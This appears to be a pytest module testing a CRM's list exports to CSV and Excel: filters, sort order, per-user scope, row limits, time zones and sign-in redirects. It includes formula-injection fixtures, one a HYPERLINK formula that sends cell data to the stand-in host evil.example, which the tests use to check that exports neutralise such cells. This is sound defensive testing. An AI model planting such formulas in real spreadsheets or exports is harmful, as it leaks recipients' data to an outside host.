"""List exports (views/list_tools.py): the list as on screen — filters, sort, scope — as CSV with a BOM and as Excel."""

import csv
import io
import uuid
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from app.exports import BOM
from tests.helpers import mine_and_theirs, unique_tag

# FAB's list filters: `_flt_<index>_<column>`; for a string column index 2 is "contains",
# for an enum index 0 is "equal" (flask_appbuilder.models.sqla.filters.SQLAFilterConverter).
CONTAINS, EQUAL = 2, 0
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def tag():
    """A token of this module's own (tests/helpers.unique_tag)."""
    return unique_tag("x")


def export_csv(client, path, **args):
    """GET a list's CSV export; return (response, rows as lists, the header first)."""
    resp = client.get(path, query_string=args)
    text = resp.get_data(as_text=True)
    return resp, list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def export_xlsx(client, path, **args):
    """GET a list's Excel export; return (response, the first sheet's cells as openpyxl cells, by row)."""
    resp = client.get(path, query_string=args)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    sheet = load_workbook(io.BytesIO(resp.data)).active
    return resp, [list(row) for row in sheet.iter_rows()]


def test_csv_has_a_bom_the_screen_labels_and_only_the_callers_filtered_rows(browser_login, make):
    t = tag()
    mine = [make.customer("sales", name=f"{t}-{i}") for i in range(2)]
    make.customer("sales", name=f"別名{uuid.uuid4().hex[:6]}")  # outside the filter
    theirs = make.customer("sales2", name=f"{t}-sales2")
    resp, rows = export_csv(browser_login("sales"), "/customerview/export/csv", **{f"_flt_{CONTAINS}_name": t})
    assert resp.status_code == 200
    assert resp.headers["Content-Type"].startswith("text/csv")
    assert resp.headers["Content-Disposition"].startswith('attachment; filename="customer-')
    assert resp.get_data(as_text=True).startswith(BOM)
    assert resp.data.startswith(b"\xef\xbb\xbf")
    assert rows[0][0] == "名前"  # the list's column labels, in the screen's language
    names = [row[0] for row in rows[1:]]
    assert sorted(names) == sorted(c.name for c in mine)
    assert theirs.name not in resp.get_data(as_text=True)
    # The Manager's export of the same list holds every rep's rows.
    _resp, rows = export_csv(browser_login("manager"), "/customerview/export/csv", **{f"_flt_{CONTAINS}_name": t})
    assert sorted(row[0] for row in rows[1:]) == sorted([c.name for c in mine] + [theirs.name])


def test_the_sort_of_the_screen_is_the_sort_of_the_export(browser_login, make):
    t = tag()
    for suffix in ("b", "c", "a"):
        make.customer("sales", name=f"{t}{suffix}")
    client = browser_login("sales")
    flt = {f"_flt_{CONTAINS}_name": t}
    _resp, rows = export_csv(client, "/customerview/export/csv", **flt, _oc_CustomerView="name", _od_CustomerView="asc")
    assert [row[0] for row in rows[1:]] == [f"{t}a", f"{t}b", f"{t}c"]
    _resp, rows = export_csv(client, "/customerview/export/csv", **flt, _oc_CustomerView="name", _od_CustomerView="desc")
    assert [row[0] for row in rows[1:]] == [f"{t}c", f"{t}b", f"{t}a"]


def test_formula_cells_are_neutralised_in_csv_and_excel(browser_login, make):
    t = tag()
    evil = make.customer("sales", name=f"{FORMULA}{t}", industry="+SUM(1+1)", phone="-2+3")
    client = browser_login("sales")
    flt = {f"_flt_{CONTAINS}_name": t}
    _resp, rows = export_csv(client, "/customerview/export/csv", **flt)
    assert len(rows) == 2
    assert rows[1][0] == f"'{FORMULA}{t}" and rows[1][1] == "'+SUM(1+1)"
    _resp, cells = export_xlsx(client, "/customerview/export/xlsx", **flt)
    assert len(cells) == 2
    name, industry = cells[1][0], cells[1][1]
    assert name.value == f"'{FORMULA}{t}" and name.data_type == "s"
    assert industry.value == "'+SUM(1+1)" and industry.data_type == "s"
    assert not any(c.data_type == "f" for row in cells for c in row)
    assert evil.id


def test_excel_keeps_numbers_and_times_typed_in_the_display_time_zone(browser_login, make):
    t = tag()
    due = datetime(2026, 12, 24, 1, 30, tzinfo=timezone.utc)
    task = make.task("sales", title=f"{t} 期日", due_date=due)
    resp, cells = export_xlsx(browser_login("sales"), "/taskview/export/xlsx", **{f"_flt_{CONTAINS}_title": t})
    assert resp.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert cells[1][0].value == task.title
    due_cell = next(c for c in cells[1] if isinstance(c.value, datetime))
    assert due_cell.value == datetime(2026, 12, 24, 10, 30)  # Asia/Tokyo, as on screen


def test_filters_on_codes_and_relations_are_honoured(browser_login, make):
    t = tag()
    customer = make.customer("sales", name=f"{t}社")
    done = make.task("sales", customer=customer, title=f"{t} 済", status="COMPLETED")
    make.task("sales", customer=customer, title=f"{t} 未", status="TODO")
    make.task("sales2", title=f"{t} 済 sales2", status="COMPLETED")
    client = browser_login("sales")
    _resp, rows = export_csv(
        client, "/taskview/export/csv", **{f"_flt_{CONTAINS}_title": t, f"_flt_{EQUAL}_status": "COMPLETED"}
    )
    assert [row[0] for row in rows[1:]] == [done.title]
    assert rows[1][1] == customer.name  # a related row as the list shows it
    _resp, rows = export_csv(client, "/taskview/export/csv", **{f"_flt_{EQUAL}_customer": customer.id})
    assert sorted(row[0] for row in rows[1:]) == sorted([done.title, f"{t} 未", f"初回コンタクト: {customer.name}"])


def test_a_soft_deleted_customer_is_never_exported(browser_login, make, db):
    from app.services.records import soft_delete_customer
    from models.customer import Customer

    t = tag()
    gone = make.customer("sales", name=f"{t} 削除")
    kept = make.customer("sales", name=f"{t} 残る")
    soft_delete_customer(db.session.get(Customer, gone.id))
    db.session.commit()
    for key in ("sales", "admin"):
        _resp, rows = export_csv(browser_login(key), "/customerview/export/csv", **{f"_flt_{CONTAINS}_name": t})
        assert [row[0] for row in rows[1:]] == [kept.name], key


def test_other_lists_export_in_scope(browser_login, make):
    t = tag()
    mine, theirs = mine_and_theirs(make, "meeting", title=f"{t} 面談")
    req, other_req = mine_and_theirs(make, "approval", product_name=f"{t} 投信")
    client = browser_login("sales")
    _resp, rows = export_csv(client, "/meetingview/export/csv", **{f"_flt_{CONTAINS}_title": t})
    assert len(rows) == 2 and mine.title in rows[1]
    _resp, rows = export_csv(client, "/approvalrequestview/export/csv", **{f"_flt_{CONTAINS}_product_name": t})
    assert len(rows) == 2 and req.product_name in rows[1]
    _resp, cells = export_xlsx(client, "/approvalrequestview/export/xlsx", **{f"_flt_{CONTAINS}_product_name": t})
    assert len(cells) == 2
    assert theirs.id and other_req.id


def test_a_list_longer_than_the_bound_is_refused(app, browser_login, make, monkeypatch):
    t = tag()
    for i in range(3):
        make.task("sales", title=f"{t} {i}")
    monkeypatch.setitem(app.config, "LIST_EXPORT_MAX_ROWS", 2)
    client = browser_login("sales")
    resp = client.get("/taskview/export/csv", query_string={f"_flt_{CONTAINS}_title": t})
    assert resp.status_code == 400 and "limit" in resp.get_json()["details"]
    monkeypatch.setitem(app.config, "LIST_EXPORT_MAX_ROWS", 3)
    resp, rows = export_csv(client, "/taskview/export/csv", **{f"_flt_{CONTAINS}_title": t})
    assert resp.status_code == 200 and len(rows) == 4


def test_unknown_format_and_signed_out_callers(browser_login, client):
    assert browser_login("sales").get("/customerview/export/pdf").status_code == 404
    resp = client.get("/customerview/export/csv")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_the_list_page_links_its_exports_with_its_own_filters(browser_login):
    html = browser_login("sales").get(
        "/customerview/list/", query_string={f"_flt_{CONTAINS}_name": "abc", "page_CustomerView": "2"}
    ).get_data(as_text=True)
    assert f'href="/customerview/export/csv?_flt_{CONTAINS}_name=abc"' in html
    assert f'href="/customerview/export/xlsx?_flt_{CONTAINS}_name=abc"' in html


@pytest.mark.parametrize("value, expected", [(5, 5), (None, None), ("@x", "'@x"), ("  =1", "'  =1"), ("a\x01b", "ab")])
def test_excel_cells_go_through_the_one_neutraliser(value, expected):
    from app.exports import _xlsx_value

    assert _xlsx_value(value) == expected


def test_csv_stream_writes_the_bom_once():
    from app.exports import csv_stream

    text = "".join(csv_stream(["a"], [["=1"], [2]]))
    assert text == BOM + "a\r\n'=1\r\n2\r\n"


def test_a_lists_default_filters_and_order_apply_until_it_is_filtered(app, browser_login, make, monkeypatch):
    """A list that opens on default filters (e.g. open tasks by due date) exports what it opens on."""
    from datetime import timedelta

    from flask_appbuilder.models.sqla.filters import FilterEqual

    from models.base import utcnow

    view = next(v for v in app.appbuilder.baseviews if type(v).__name__ == "TaskView")
    monkeypatch.setattr(view, "default_filters", [["priority", FilterEqual, "URGENT"]], raising=False)
    monkeypatch.setattr(view, "default_order", ("due_date", "desc"), raising=False)
    t = tag()
    soon = make.task("sales", title=f"{t} 急ぎ1", priority="URGENT", due_date=utcnow() + timedelta(days=1))
    later = make.task("sales", title=f"{t} 急ぎ2", priority="URGENT", due_date=utcnow() + timedelta(days=3))
    calm = make.task("sales", title=f"{t} 通常", priority="LOW")
    client = browser_login("sales")
    _resp, rows = export_csv(client, "/taskview/export/csv")
    titles = [row[0] for row in rows[1:]]
    assert titles.index(later.title) < titles.index(soon.title) and calm.title not in titles
    # ?all=1 or a filter of the user's own replaces the defaults.
    _resp, rows = export_csv(client, "/taskview/export/csv", all="1")
    assert calm.title in [row[0] for row in rows[1:]]
    _resp, rows = export_csv(client, "/taskview/export/csv", **{f"_flt_{CONTAINS}_title": t})
    assert sorted(row[0] for row in rows[1:]) == sorted([soon.title, later.title, calm.title])
